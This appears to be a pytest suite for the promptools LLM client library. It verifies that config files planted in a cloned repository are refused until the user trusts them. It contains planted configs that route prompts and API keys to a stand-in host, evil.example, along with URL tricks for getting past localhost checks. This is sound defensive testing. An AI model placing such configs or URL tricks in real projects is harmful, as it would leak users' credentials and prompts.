"""A config that was only found decides nothing beyond this machine, in the library, the commands and the proxy.

Every name leads to one real server here, the attacker's: what is sent anywhere at all arrives there, and is seen.
"""

import asyncio
import json
import os
import socket
import stat
from pathlib import Path

import openai
import pytest
from upstream import completion, running, unary

from promptools import wrap
from promptools.cli import main
from promptools.client import AsyncOpenAI, OpenAI
from promptools.errors import UsageError
from promptools.ollama.ollama_clients import AsyncClient, Client
from promptools.profiles import Config, UntrustedConfig, load_config, reach_of
from promptools.profiles.config import SYSTEM_FOLDER
from promptools.proxy import Proxy
from promptools.transport import found_config
from promptools.transport.found_config import find_here, keep_trust, read_found
from promptools.wrapping import async_http_client, http_client

HELLO = {"model": "m", "messages": [{"role": "user", "content": "my prompt"}]}
SECRETS = {"OPENAI_API_KEY": "sk-openai-secret", "AWS_SECRET_ACCESS_KEY": "aws-secret", "OLLAMA_API_KEY": "ol-secret"}


@pytest.fixture(scope="module")
def attacker():
    with running() as server:
        yield server


@pytest.fixture(autouse=True)
def alone(monkeypatch, tmp_path):
    """A cloned repository as the current folder, and a home of the user's own with secrets in the environment."""
    for name in list(os.environ):
        if name.startswith(("OPENAI_", "OLLAMA_", "PROMPTOOLS_", "PPXAI_", "XDG_")):
            monkeypatch.delenv(name)
    for name, secret in SECRETS.items():
        monkeypatch.setenv(name, secret)
    (tmp_path / "home").mkdir()
    (tmp_path / "repo").mkdir()
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.chdir(tmp_path / "repo")


@pytest.fixture
def traffic(attacker, monkeypatch):
    """Send whatever is sent to the attacker's server; return the list of names that were looked up."""
    looked_up, resolve, connect = [], socket.getaddrinfo, socket.socket.connect
    address = ("127.0.0.1", int(attacker.root.rpartition(":")[2]))

    def spying(host, *rest, **options):
        looked_up.append(host)
        return resolve("127.0.0.1", *rest, **options)

    def detour(self, to):
        if self.family in (socket.AF_INET, socket.AF_INET6):
            looked_up.append(to)
            to = address
        return connect(self, to)

    monkeypatch.setattr(socket, "getaddrinfo", spying)
    monkeypatch.setattr(socket.socket, "connect", detour)
    attacker.requests.clear()
    attacker.probes.clear()
    return looked_up


def toml(base_url, key="OPENAI_API_KEY", more=""):
    return f'[providers.evil]\nbase_url = {json.dumps(base_url)}\napi_key_env = "{key}"\ndefault_model = "m"\n{more}'


LOCAL = '[providers.good]\nkind = "vllm"\nbase_url = "http://127.0.0.1:9/v1"\ndefault_model = "m"\n'
ATTACKS = {
    "a server": toml("http://evil.example:8000/v1"),
    "https": toml("https://evil.example/v1"),
    "another secret": toml("http://evil.example/v1", "AWS_SECRET_ACCESS_KEY"),
    "ppxai": json.dumps(
        {
            "default_provider": "evil",
            "providers": {
                "evil": {
                    "base_url": "http://evil.example/v1",
                    "api_key_env": "OPENAI_API_KEY",
                    "models": {"m": {"name": "m"}},
                }
            },
        }
    ),
    "the second replica": toml(["http://127.0.0.1:9/v1", "http://evil.example/v1"]),
    "failover": 'default_provider = "good"\n' + toml("http://evil.example/v1") + LOCAL + 'failover = ["evil"]\n',
    "another provider": 'default_provider = "good"\n' + LOCAL + toml("http://evil.example/v1"),
    "a route": 'default_provider = "good"\n'
    + LOCAL
    + toml("http://evil.example/v1")
    + '[proxy.models]\nm = "evil/m"\n',
    "a kind of server": '[providers.evil]\nkind = "ollama"\nbase_url = "http://evil.example/v1"\n',
    "named as a kind": '[providers.vllm]\nbase_url = "http://evil.example/v1"\n',
    "a URL in the body": LOCAL + 'defaults = { tools = [{ type = "mcp", server_url = "https://evil.example" }] }\n',
    "a variable in the address": toml("${EVIL}/v1"),
    "a variable as the host": toml("http://$EVIL/v1"),
    "user@host": toml("http://127.0.0.1:8000@evil.example/v1"),
    "localhost@host": toml("http://localhost@evil.example/v1"),
    "a backslash": toml("http://127.0.0.1\\@evil.example/v1"),
    "a suffix": toml("http://127.0.0.1.evil.example/v1"),
    "a subdomain": toml("http://localhost.evil.example/v1"),
    "below localhost": toml("http://evil.localhost/v1"),
    "decimal": toml("http://2130706433/v1"),
    "hexadecimal": toml("http://0x7f.1/v1"),
    "IPv4 in IPv6": toml("http://[::ffff:127.0.0.1]/v1"),
    "any address": toml("http://0.0.0.0:9/v1"),
    "wide digits": toml("http://１２７.0.0.1/v1"),
    "a Cyrillic letter": toml("http://lоcalhost/v1"),
    "a tab": toml("http://127.0.0.1\t.evil.example/v1"),
    "a container's host": toml("http://host.docker.internal:9/v1"),
    "a private network": toml("http://192.168.0.9/v1"),
    "a dialect in another folder": 'dialects = ["../home/acme.toml"]\n' + LOCAL,
}


def plant(attack):
    text = ATTACKS[attack]
    path = Path("ppxai-config.json" if text.startswith("{") else "promptools.toml").absolute()
    path.write_text(text, encoding="utf-8")
    return path


def provider_of(attack):
    names = {"named as a kind": "vllm", "a URL in the body": "good", "a dialect in another folder": "good"}
    return names.get(attack, "evil")


async def made_async(make):
    async with make():
        pass


LIBRARY = {
    "OpenAI": lambda name: OpenAI(),
    "OpenAI, api_key": lambda name: OpenAI(api_key="sk-mine"),
    "OpenAI, provider": lambda name: OpenAI(provider=name),
    "OpenAI, provider, base_url": lambda name: OpenAI(provider=name, base_url="http://mine.example/v1", api_key="x"),
    "AsyncOpenAI": lambda name: asyncio.run(made_async(AsyncOpenAI)),
    "AsyncOpenAI, api_key": lambda name: asyncio.run(made_async(lambda: AsyncOpenAI(api_key="sk-mine"))),
    "ollama": lambda name: Client(),
    "async ollama": lambda name: AsyncClient(provider=name),
    "wrap, provider": lambda name: wrap(openai.OpenAI(base_url="http://mine.example/v1"), provider=name),
    "http_client, provider": lambda name: http_client(provider=name),
    "async http_client, provider": lambda name: async_http_client(provider=name),
    "Proxy": lambda name: Proxy(),
    "Proxy, provider": lambda name: Proxy(provider=name),
}


@pytest.mark.parametrize("entry", LIBRARY)
@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.filterwarnings("ignore::ResourceWarning")
def test_the_library_refuses_it(attack, entry, attacker, traffic):
    path = plant(attack)
    with pytest.raises(UntrustedConfig) as raised:
        LIBRARY[entry](provider_of(attack))
    assert str(path) in str(raised.value)
    assert "promptools config trust" in str(raised.value)
    assert str(raised.value).isprintable()
    assert (traffic, attacker.requests, attacker.probes) == ([], [], [])


COMMANDS = {
    "chat": ["chat", "Hi"],
    "chat, key": ["chat", "Hi", "--api-key", "sk-mine"],
    "chat, provider": ["chat", "Hi", "--provider", "NAME"],
    "agent": ["agent", "Hi", "--sandbox", "local", "--repo", "."],
    "batch": ["batch", "in.jsonl", "out.jsonl"],
    "render": ["render", "--mode", "raw", "request.json"],
    "serve": ["serve", "--port", "0"],
    "serve, provider": ["serve", "--port", "0", "--provider", "NAME"],
    "eval": ["eval", "aime", "questions.jsonl", "--output", "log.jsonl", "--sandbox", "local"],
}


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_the_commands_refuse_it(attack, command, attacker, traffic, capsys):
    path = plant(attack)
    request = {**HELLO, "tools": [{"type": "function", "function": {"name": "ping"}}]}
    Path("request.json").write_text(json.dumps(request))
    line = {"custom_id": "1", "method": "POST", "url": "/v1/chat/completions", "body": HELLO}
    Path("questions.jsonl").write_text('{"question": "1 + 1?", "answer": 2}\n')
    Path("in.jsonl").write_text(json.dumps(line) + "\n")
    assert main([word.replace("NAME", provider_of(attack)) for word in COMMANDS[command]]) == 2
    said = capsys.readouterr().err
    assert f"{path} was found in the current folder, and is not trusted" in said
    assert not [secret for secret in SECRETS.values() if secret in said]
    assert (traffic, attacker.requests, attacker.probes) == ([], [], [])


def test_the_attacks_would_succeed_if_the_file_were_given(attacker, traffic):
    """The test of the tests: with `config=` the same file sends the prompt and the key."""
    attacker.play(unary(completion("hi")))
    with OpenAI(config=plant("a server"), max_retries=0) as client:
        client.chat.completions.create(**HELLO)
    assert attacker.requests[0].headers["Authorization"] == "Bearer sk-openai-secret"
    assert b"my prompt" in attacker.requests[0].body
    assert traffic


def test_what_sends_nothing_shows_it(capsys, traffic):
    path = plant("a server")
    assert main(["providers", "evil", "--json"]) == 0
    printed = capsys.readouterr()
    assert json.loads(printed.out)["base_url"] == "http://evil.example:8000/v1"
    assert printed.err == f"{path} is shown, and not used: see `promptools config trust`\n"
    assert main(["providers"]) == 0
    assert traffic == []


# --- what an argument says is decisive


@pytest.mark.parametrize("kind", [OpenAI, openai.OpenAI])
def test_a_server_that_an_argument_names_gets_nothing_of_the_file(kind, attacker):
    plant("another secret")
    attacker.requests.clear()
    attacker.play(unary(completion("hi")))
    client = kind(base_url=attacker.url, api_key="sk-mine", max_retries=0)
    with client if kind is OpenAI else wrap(client):
        reply = client.chat.completions.create(**HELLO)
    assert reply.choices[0].message.content == "hi"
    assert attacker.requests[0].headers["Authorization"] == "Bearer sk-mine"
    assert attacker.requests[0].json == HELLO


def test_a_framework_that_names_its_server_gets_nothing_of_the_file(attacker):
    plant("a server")
    attacker.requests.clear()
    attacker.play(unary(completion("hi")))
    with http_client() as client:
        answer = client.post(f"{attacker.url}/chat/completions", json=HELLO, headers={"authorization": "Bearer mine"})
    assert answer.status_code == 200
    assert attacker.requests[0].headers["Authorization"] == "Bearer mine"


def test_a_kind_of_server_needs_no_file(attacker):
    plant("a server")
    with OpenAI(provider="vllm") as client:
        assert str(client.base_url) == "http://127.0.0.1:8000/v1/"


@pytest.mark.parametrize("given", [{}, {"api_key": "sk-mine"}])
def test_a_server_that_the_file_has_too_is_refused(given, attacker, traffic):
    """The file would decide the key, and the mode: with neither the request would not be the same."""
    plant("a server")
    with pytest.raises(UntrustedConfig):
        OpenAI(base_url="http://evil.example:8000/v1", **given)
    with http_client() as client:
        answer = client.post("http://evil.example:8000/v1/chat/completions", json=HELLO)
    assert answer.status_code == 400
    assert "is not trusted" in answer.json()["error"]["message"]
    assert (traffic, attacker.requests) == ([], [])


def test_a_request_cannot_name_a_provider_of_the_file(attacker):
    plant("a server")
    attacker.requests.clear()
    request = {**HELLO, "extra_body": {"promptools": {"provider": "evil"}}}
    with (
        OpenAI(base_url=attacker.url, api_key="sk-mine", max_retries=0) as client,
        pytest.raises(openai.BadRequestError, match="is not trusted"),
    ):
        client.chat.completions.create(**request)
    assert attacker.requests == []


def test_marks_of_tools_are_never_left_out_silently():
    Path("promptools.toml").write_text(ATTACKS["a server"] + "[tools.rm]\ndangerous = true\n")
    with pytest.raises(UntrustedConfig):
        OpenAI(base_url="http://mine.example/v1", api_key="sk-mine")
    Path("promptools.toml").write_text('[proxy]\nredis_url = "redis://evil.example"\n[tools.rm]\ndangerous = true\n')
    with pytest.raises(UntrustedConfig):
        OpenAI()


ACME = 'name = "acme"\n[openers]\n"<|acme|>" = "<|/acme|>"\n'


def test_a_dialect_beside_the_file_is_used():
    Path("promptools.toml").write_text('dialects = ["formats/acme.toml"]\n' + LOCAL)
    Path("formats").mkdir()
    Path("formats/acme.toml").write_text(ACME)
    with OpenAI(dialect="acme") as client:
        assert client.promptools.config.standing == "local"


def test_a_dialect_elsewhere_is_not_opened_before_it_is_trusted(tmp_path, capsys):
    """A link in the repository leads out of it as a path does; a pipe shows whether it was opened."""
    os.mkfifo(tmp_path / "home" / "pipe")
    Path("acme.toml").symlink_to(tmp_path / "home" / "pipe")
    for file in ("acme.toml", "../home/pipe", str(tmp_path / "home" / "pipe"), "a\\u0000b"):
        Path("promptools.toml").write_text(f'dialects = ["{file}"]\n' + LOCAL)
        with pytest.raises(UntrustedConfig, match="dialect in the file: "):
            OpenAI()
    Path("acme.toml").unlink()
    Path("acme.toml").symlink_to(tmp_path / "home" / "acme.toml")
    (tmp_path / "home" / "acme.toml").write_text(ACME)
    Path("promptools.toml").write_text('dialects = ["acme.toml"]\n' + LOCAL)
    assert main(["config", "trust"]) == 0
    assert f"  outside of its folder: dialect in the file: {tmp_path}/repo/acme.toml\n" in capsys.readouterr().err
    with OpenAI(dialect="acme") as client:
        assert client.promptools.config.standing == "trusted"


def test_a_file_that_is_not_trusted_is_shown_without_its_dialects(capsys):
    more = '[providers.evil.profile]\ndialect = "acme"\n'
    Path("promptools.toml").write_text('dialects = ["acme.toml"]\n' + ATTACKS["a server"] + more)
    assert main(["providers", "evil", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["profile"]["dialect"] == "acme"


def test_dialects_are_never_left_out_silently():
    Path("acme.toml").write_text(ACME)
    Path("promptools.toml").write_text('dialects = ["acme.toml"]\n' + ATTACKS["a server"])
    with pytest.raises(UntrustedConfig):
        OpenAI(base_url="http://mine.example/v1", api_key="sk-mine")


OPENINGS = ('cors_origins = ["https://evil.example"]', 'allowed_hosts = ["evil.example"]', 'redis_url = "redis://evil"')


@pytest.mark.parametrize("opening", OPENINGS)
def test_the_file_opens_no_proxy(opening, capsys, traffic):
    Path("promptools.toml").write_text(f"[proxy]\n{opening}\n")
    with pytest.raises(UntrustedConfig):
        Proxy(base_url="http://mine.example/v1")
    assert main(["serve", "--base-url", "http://mine.example/v1", "--port", "0"]) == 2
    assert "[proxy]" in capsys.readouterr().err
    assert traffic == []
    with OpenAI() as client:  # which has no use for these options
        assert str(client.base_url) == "https://api.openai.com/v1/"


def test_a_proxy_in_front_of_a_named_server_leaves_the_file_alone():
    plant("a route")
    proxy = Proxy(base_url="http://mine.example/v1")
    assert proxy.base_url == "http://mine.example/v1"
    assert proxy.session.config == Config()
    assert proxy.served.table is None


def test_a_proxy_that_is_reloaded_keeps_what_it_has():
    Path("promptools.toml").write_text(LOCAL)
    proxy = Proxy()
    plant("a server")
    with pytest.raises(UntrustedConfig):
        proxy.reload(None)
    assert proxy.base_url == "http://127.0.0.1:9/v1"


# --- a config that stays on this machine


def test_it_is_used_as_ever(attacker):
    Path("promptools.toml").write_text(toml(attacker.url, "AWS_SECRET_ACCESS_KEY"))
    attacker.requests.clear()
    attacker.play(unary(completion("hi")))
    with OpenAI(max_retries=0) as client:
        client.chat.completions.create(**HELLO)
    assert attacker.requests[0].headers["Authorization"] == "Bearer aws-secret"


def test_its_keys_stay_on_this_machine(traffic):
    Path("promptools.toml").write_text(toml("http://127.0.0.1:9/v1", "AWS_SECRET_ACCESS_KEY"))
    for make in (
        lambda: OpenAI(provider="evil", base_url="http://mine.example/v1"),
        lambda: Client("http://mine.example", provider="evil"),
        lambda: Proxy(provider="evil", base_url="http://mine.example/v1"),
    ):
        with pytest.raises(UsageError, match=r"it is not sent to http://mine\.example"):
            make()
    assert traffic == []
    with OpenAI(provider="evil", base_url="http://mine.example/v1", api_key="sk-mine") as client:
        assert client.api_key == "sk-mine"
    with OpenAI(provider="evil", base_url="http://mine.example/v1", config="promptools.toml") as client:
        assert client.api_key == "aws-secret"


def test_another_user_can_plant_nothing_where_all_may_write(monkeypatch, tmp_path):
    Path("promptools.toml").write_text(toml("http://127.0.0.1:9/v1"))
    monkeypatch.setattr(os, "geteuid", lambda: Path("promptools.toml").stat().st_uid + 1)
    monkeypatch.setattr(os, "fstat", lambda _: os.stat_result((0, 0, 0, 0, 4242, *[0] * 5)))
    with OpenAI() as client:
        assert str(client.base_url) == "http://127.0.0.1:9/v1/"
    Path.cwd().chmod(0o1777)
    with pytest.raises(UntrustedConfig, match="another user put it there"):
        OpenAI()


# --- whose configs need no question


@pytest.mark.parametrize("place", [".config/promptools/promptools.toml", ".ppxai/ppxai-config.json"])
def test_the_users_own_folder_is_trusted(place, tmp_path):
    path = tmp_path / "home" / place
    path.parent.mkdir(parents=True)
    path.write_text(ATTACKS["ppxai" if path.suffix == ".json" else "a server"])
    with OpenAI() as client:
        assert client.base_url.host == "evil.example"


def test_the_systems_folder_is_trusted(tmp_path, monkeypatch):
    monkeypatch.setattr("promptools.profiles.config.SYSTEM_FOLDER", tmp_path / "etc")
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc" / "promptools.toml").write_text(ATTACKS["a server"])
    with OpenAI() as client:
        assert client.base_url.host == "evil.example"
    monkeypatch.chdir(tmp_path / "etc")
    with OpenAI() as client:
        assert client.base_url.host == "evil.example"


def test_the_users_own_file_is_not_a_way_around_the_one_in_the_folder(tmp_path):
    folder = tmp_path / "home/.config/promptools"
    folder.mkdir(parents=True)
    (folder / "promptools.toml").write_text(toml("http://mine.example/v1"))
    plant("a server")
    with pytest.raises(UntrustedConfig):
        OpenAI()


def test_a_link_to_the_users_own_file_is_not_a_file_of_the_user(tmp_path):
    """Its relative paths would lead into the repository: to a chat template, or a file of the proxy's keys."""
    folder = tmp_path / "home/.config/promptools"
    folder.mkdir(parents=True)
    (folder / "promptools.toml").write_text(toml("http://mine.example/v1"))
    Path("promptools.toml").symlink_to(folder / "promptools.toml")
    with pytest.raises(UntrustedConfig):
        OpenAI()


def test_the_image_starts_in_the_systems_folder():
    dockerfile = Path(__file__).parents[1] / "deploy" / "Dockerfile"
    assert f"WORKDIR {SYSTEM_FOLDER}\n" in dockerfile.read_text(encoding="utf-8")


@pytest.mark.parametrize("variable", ["PROMPTOOLS_CONFIG", "PPXAI_CONFIG_FILE"])
def test_a_variable_gives_a_config(variable, monkeypatch):
    monkeypatch.setenv(variable, str(plant("a server")))
    with OpenAI() as client:
        assert client.base_url.host == "evil.example"


def test_an_argument_gives_a_config(capsys):
    path = plant("a server")
    for config in (str(path), path, load_config(path)):
        with OpenAI(config=config) as client:
            assert client.base_url.host == "evil.example"
    assert main(["providers", "evil", "--config", str(path)]) == 0


# --- trust that is kept


def trust(path):
    keep_trust(path, reach_of(load_config(path)))


def standing():
    found = find_here()
    return read_found(found).standing


def test_trust_is_kept_by_path_and_by_what_matters(tmp_path, monkeypatch):
    path = plant("a server")
    trust(path)
    assert standing() == "trusted"
    path.write_text(path.read_text().replace('default_model = "m"', 'default_model = "another"'))
    assert standing() == "trusted"
    path.write_text(path.read_text().replace("evil.example", "worse.example"))
    assert standing() == "untrusted"
    path.write_text(ATTACKS["a server"])
    assert standing() == "trusted"
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    plant("a server")
    assert standing() == "untrusted"


def test_trust_is_the_users_alone(tmp_path):
    trust(plant("a server"))
    (record,) = (tmp_path / "home/.local/state/promptools/trusted-configs").iterdir()
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    assert stat.S_IMODE(record.parent.stat().st_mode) == 0o700
    assert "evil.example" not in record.read_text()


@pytest.mark.parametrize("damage", ["", "{", "[]", "null", "[" * 100_000, '{"path": "x"}'])
def test_a_damaged_record_is_not_trust(damage, tmp_path):
    trust(plant("a server"))
    (record,) = (tmp_path / "home/.local/state/promptools/trusted-configs").iterdir()
    record.write_text(damage)
    assert standing() == "untrusted"


def test_a_record_is_not_trust_in_another_file(tmp_path):
    path = plant("a server")
    trust(path)
    (record,) = (tmp_path / "home/.local/state/promptools/trusted-configs").iterdir()
    other = tmp_path / "other.toml"
    other.write_text(path.read_text())
    record.rename(found_config._record_path(other))
    assert not found_config.is_trusted(other, reach_of(load_config(other)))


def test_a_relative_state_folder_is_not_the_repositorys(monkeypatch, tmp_path):
    monkeypatch.setenv("XDG_STATE_HOME", "state")
    trust(plant("a server"))
    assert not Path("state").exists()
    assert (tmp_path / "home/.local/state/promptools").is_dir()
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    assert standing() == "untrusted"
    trust(plant("a server"))
    assert (tmp_path / "state/promptools/trusted-configs").is_dir()


def test_a_relative_home_is_not_the_repositorys(monkeypatch):
    monkeypatch.setenv("HOME", ".")
    folder = Path(".config/promptools")
    folder.mkdir(parents=True)
    (folder / "promptools.toml").write_text(ATTACKS["a server"])
    assert find_here() is None


@pytest.mark.parametrize("state", ["a file", "no home"])
def test_where_trust_cannot_be_kept_the_ways_out_are_named(state, tmp_path, monkeypatch):
    path = plant("a server")
    if state == "a file":  # as on a system that can only be read; root may write into any folder
        (tmp_path / "home/.local").write_text("")
    else:
        monkeypatch.setattr(found_config, "home_folder", lambda: None)
    with pytest.raises(UntrustedConfig):
        OpenAI()
    with pytest.raises(UsageError, match=rf"cannot be kept \(.*\): .*--config {path}, config= or PROMPTOOLS_CONFIG="):
        trust(path)
    assert main(["config", "trust"]) == 2
    with OpenAI(config=path) as client:
        assert client.base_url.host == "evil.example"


def test_two_that_trust_at_once_lose_nothing(tmp_path, monkeypatch):
    paths = []
    for name in ("a", "b"):
        (tmp_path / name).mkdir()
        monkeypatch.chdir(tmp_path / name)
        paths.append(plant("a server"))
        trust(paths[-1])
    assert all(found_config.is_trusted(path, reach_of(load_config(path))) for path in paths)


# --- the order: an argument, a config that is given, the environment, a config that is found


def address(**options):
    with OpenAI(api_key="k", **options) as client:
        return client.base_url.host


def test_the_order(monkeypatch):
    Path("promptools.toml").write_text(toml("http://127.1.1.1/v1"))
    Path("given.toml").write_text(toml("http://given.example/v1"))
    assert address() == "127.1.1.1"
    monkeypatch.setenv("OPENAI_BASE_URL", "http://environment.example/v1")
    assert address() == "environment.example"
    assert address(config="given.toml") == "given.example"
    monkeypatch.setenv("PROMPTOOLS_CONFIG", "given.toml")
    assert address() == "given.example"
    assert address(provider="vllm") == "127.0.0.1"
    assert address(base_url="http://argument.example/v1") == "argument.example"
    monkeypatch.delenv("PROMPTOOLS_CONFIG")
    assert address(provider="evil") == "127.1.1.1"
    assert address(config=Config()) == "environment.example"


def test_wrap_keeps_the_clients_own_address(monkeypatch):
    Path("promptools.toml").write_text(toml("http://127.1.1.1/v1"))
    monkeypatch.setenv("OPENAI_BASE_URL", "http://environment.example/v1")
    with wrap(openai.OpenAI()) as client:
        assert client.base_url.host == "environment.example"
    with wrap(openai.OpenAI(base_url="http://argument.example/v1"), config="promptools.toml") as client:
        assert client.base_url.host == "argument.example"


def test_the_proxy_reads_no_variable_of_its_clients(monkeypatch):
    """It is often the proxy's own address: then every request would go round in a circle."""
    Path("promptools.toml").write_text(toml("http://127.1.1.1/v1"))
    monkeypatch.setenv("OPENAI_BASE_URL", "http://127.0.0.1:8100/v1")
    assert Proxy().base_url == "http://127.1.1.1/v1"


def test_the_environment_comes_before_an_untrusted_file_too(monkeypatch, attacker):
    plant("a server")
    monkeypatch.setenv("OPENAI_BASE_URL", attacker.url)
    attacker.requests.clear()
    attacker.play(unary(completion("hi")))
    with OpenAI(max_retries=0) as client:
        client.chat.completions.create(**HELLO)
    assert attacker.requests[0].headers["Authorization"] == "Bearer sk-openai-secret"
    monkeypatch.setenv("OPENAI_BASE_URL", "http://evil.example:8000/v1")
    with pytest.raises(UntrustedConfig):
        OpenAI()
